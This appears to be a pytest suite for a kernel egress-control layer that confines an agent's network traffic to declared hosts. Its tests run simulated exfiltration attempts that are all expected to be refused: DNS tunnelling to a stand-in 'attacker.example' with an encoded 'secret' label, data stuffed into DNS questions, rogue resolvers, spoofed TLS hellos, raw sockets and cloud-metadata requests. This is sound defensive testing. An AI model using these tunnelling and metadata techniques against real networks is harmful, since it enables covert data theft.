"""What was not declared does not leave: addresses, names, hellos, QUIC, raw sockets; and a change of policy holds at once."""

from __future__ import annotations

import socket

import pytest

from kaizen_security.collectors.kernel.policy import Table, compile_rules
from kaizen_security.collectors.kernel.shapes import Agent, Kind, Reason
from kaizen_security.contract.declaration import Declaration
from kaizen_security.contract.policy import Policy
from tests.kernel.world import RESOLVER, listener, question, resolver

ENFORCE = Agent.ENFORCE | Agent.QUIC_SHUT
NAMES = {"api.example": "127.0.0.2", "x.cdn.example": "127.0.0.3", "attacker.example": "127.0.0.4"}

CLIENT = f"""
import errno, socket, ssl, struct, sys
def said(work):
    try: print(work())
    except OSError as err: print(errno.errorcode.get(err.errno, type(err).__name__))
def ask(packet):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(60); sock.connect(("{RESOLVER}", 53)); sock.send(packet)
        return socket.inet_ntoa(sock.recv(512)[-4:])
def reach(host, port, data=b"x"):
    with socket.create_connection((host, port), timeout=60) as sock:
        sock.sendall(data)
        sock.shutdown(socket.SHUT_WR); sock.recv(1)
        return "reached"
def hello(name):
    out = ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    try: tls.do_handshake()
    except ssl.SSLWantReadError: pass
    return out.read()
"""


@pytest.fixture
def table(collector) -> Table:
    return Table(collector, 0)


def declared(*destinations: str, policies: tuple[Policy, ...] = ()):
    return compile_rules(
        Declaration(destinations=destinations), policies, also=(f"{RESOLVER}:53",), limited=bool(destinations)
    )


def run(agent, code: str) -> list[str]:
    return agent.python(CLIENT + code).splitlines()


@pytest.mark.root
def test_addresses_by_their_port_and_range(agent, table):
    table.put(declared("127.0.0.2:80", "127.1.0.0/16", "[::1]:80"), ENFORCE)
    code = """
for host, port in (("127.0.0.2", 80), ("127.0.0.2", 81), ("127.1.2.3", 9), ("127.2.0.1", 9), ("::1", 81), ("::ffff:127.0.0.9", 80)):
    said(lambda: reach(host, port))
"""
    with listener("127.0.0.2", 81), listener("127.2.0.1", 9), listener("::1", 81), listener("127.0.0.9", 80):
        assert run(agent, code) == ["ECONNREFUSED", "EPERM", "ECONNREFUSED", "EPERM", "EPERM", "EPERM"]


@pytest.mark.root
def test_a_declared_name_is_asked_and_its_address_reached_and_no_other_name_is(agent, table):
    table.put(declared("api.example", "*.cdn.example"), ENFORCE)
    code = f"""
said(lambda: ask({question("api.example")!r}))
said(lambda: reach("127.0.0.2", 80))
said(lambda: ask({question("X.CDN.example")!r}))
said(lambda: reach("127.0.0.3", 80))
said(lambda: ask({question("cdn.example")!r}))
said(lambda: ask({question("c2VjcmV0.attacker.example")!r}))
said(lambda: ask({question("attacker.example")!r}))
said(lambda: reach("127.0.0.4", 80))
"""
    with (
        resolver(NAMES) as asked,
        listener("127.0.0.2", 80),
        listener("127.0.0.3", 80),
        listener("127.0.0.4", 80) as (_, heard),
    ):
        found = run(agent, code)
    assert found == ["127.0.0.2", "reached", "127.0.0.3", "reached", "EPERM", "EPERM", "EPERM", "EPERM"]
    assert asked == ["api.example", "X.CDN.example"]
    assert heard == []
    assert agent.collector.name_of("127.0.0.2") == "api.example"


@pytest.mark.root
@pytest.mark.parametrize(
    "packet",
    [
        question("api.example", more=b"secret" * 20),
        question("api.example")[:2] + b"\x01\0\0\x02" + question("api.example")[6:],
        question("api.example")[:20],
        b"\0" * 3,
        question("api.example").replace(b"\3api", b"\7api\0\0\0\0"),
    ],
    ids=["data behind the question", "two questions", "cut", "no head", "zeros in a label"],
)
def test_a_question_that_could_carry_data_does_not_leave(agent, table, packet: bytes):
    table.put(declared("api.example"), ENFORCE)
    with resolver(NAMES) as asked:
        assert run(agent, f"said(lambda: ask({packet!r}))") == ["EPERM"]
    assert asked == []


@pytest.mark.root
def test_a_resolver_of_its_own_is_refused_and_questions_over_tcp_are(agent, table):
    table.put(declared("api.example"), ENFORCE)
    code = f"""
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
said(lambda: sock.sendto({question("api.example")!r}, ("127.0.0.8", 53)))
said(lambda: reach("{RESOLVER}", 53))
"""
    with resolver(NAMES, "127.0.0.8") as asked, listener(RESOLVER, 53):
        assert run(agent, code) == ["EPERM", "EPERM"]
    assert asked == []


@pytest.mark.root
def test_an_agent_cannot_answer_its_own_questions(agent, table):
    table.put(declared("api.example"), ENFORCE)
    code = f"""
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); server.bind(("127.0.0.5", 53))
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); client.bind(("127.0.0.5", 0))
packet = {question("api.example")!r}
answer = packet[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + packet[12:]
answer += struct.pack("!HHHIH4s", 0xC00C, 1, 1, 60, 4, socket.inet_aton("127.0.0.4"))
server.sendto(answer, client.getsockname()); client.recv(512)
said(lambda: reach("127.0.0.4", 80))
"""
    with listener("127.0.0.4", 80) as (_, heard):
        assert run(agent, code) == ["EPERM"]
    assert heard == []


@pytest.mark.root
def test_a_hello_on_a_names_address_has_to_name_a_declared_host(agent, table):
    table.put(declared("api.example"), ENFORCE)
    code = f"""
said(lambda: ask({question("api.example")!r}))
said(lambda: reach("127.0.0.2", 443, hello("api.example")))
for data in (hello("attacker.example"), b"GET / HTTP/1.0", hello("api.example")[:40], b"\\x16\\x03\\x01"):
    sock = socket.create_connection(("127.0.0.2", 443), timeout=60)
    sock.sendall(data); sock.settimeout(0.3)
    try: sock.recv(1); print("answered")
    except TimeoutError: print("silence")
    sock.close()
"""
    with resolver(NAMES), listener("127.0.0.2", 443) as (_, heard):
        assert run(agent, code) == ["127.0.0.2", "reached", "silence", "silence", "silence", "silence"]
    assert [b"api.example" in data for data in heard if data != b"(nothing)"] == [True]
    hellos = [(e.name, e.reason) for e in agent.events() if e.kind is Kind.HELLO]
    assert hellos[0] == ("api.example", Reason.PASSED_DECLARED)
    assert hellos[1] == ("attacker.example", Reason.REFUSED_NAME)
    assert {reason for _, reason in hellos[2:]} == {Reason.REFUSED_MALFORMED}


@pytest.mark.root
def test_quic_raw_and_icmp_are_refused(agent, table):
    table.put(declared("127.0.0.2"), ENFORCE)
    code = """
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
said(lambda: udp.sendto(b"x", ("127.0.0.2", 443)))
said(lambda: udp.sendto(b"x", ("127.0.0.2", 444)))
said(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
said(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
"""
    with listener("127.0.0.2", 443, socket.SOCK_DGRAM) as (_, heard):
        assert run(agent, code) == ["EPERM", "1", "EPERM", "EPERM"]
    assert heard == []


@pytest.mark.root
def test_policy_denies_in_observe_mode_too_and_wins_over_the_declaration(agent, table):
    denied = Policy("blocklist", {"ips": ["127.0.0.2"], "domains": ["attacker.example"]})
    table.put(declared("127.0.0.0/8", policies=(denied,)), Agent.LIVE)
    code = f"""
said(lambda: reach("127.0.0.2", 80))
said(lambda: reach("127.0.0.3", 80))
said(lambda: ask({question("attacker.example")!r}))
said(lambda: ask({question("deep.below.attacker.example")!r}))
said(lambda: ask({question("notattacker.example")!r}))
"""
    with listener("127.0.0.2", 80), listener("127.0.0.3", 80), resolver(NAMES) as asked:
        found = run(agent, code)
    assert found[:4] == ["EPERM", "reached", "EPERM", "EPERM"]
    assert asked == ["notattacker.example"]


@pytest.mark.root
def test_metadata_of_clouds_is_refused_unless_declared(agent, table):
    table.put(declared(), Agent.LIVE)
    assert run(agent, 'said(lambda: reach("169.254.169.254", 80))') == ["EPERM"]


@pytest.mark.root
def test_a_change_of_policy_holds_for_names_that_were_resolved_before(agent, table):
    table.put(declared("api.example"), ENFORCE)
    ask = f"said(lambda: ask({question('api.example')!r}))\n"
    reach = 'said(lambda: reach("127.0.0.2", 80))\n'
    with resolver(NAMES), listener("127.0.0.2", 80):
        assert run(agent, ask + reach) == ["127.0.0.2", "reached"]
        table.put(declared("other.example"), ENFORCE)
        assert run(agent, reach) == ["EPERM"]
        table.put(declared("api.example"), ENFORCE)
        assert run(agent, reach) == ["reached"]


@pytest.mark.root
def test_old_entries_go_when_new_ones_hold(agent, table):
    for n in range(5):
        table.put(declared(f"host{n}.example", f"10.0.0.{n}"), ENFORCE)
    assert len(list(agent.collector.map("names").keys(16))) == 1
    assert len(list(agent.collector.map("declared").keys(28))) == 2  # and the resolver
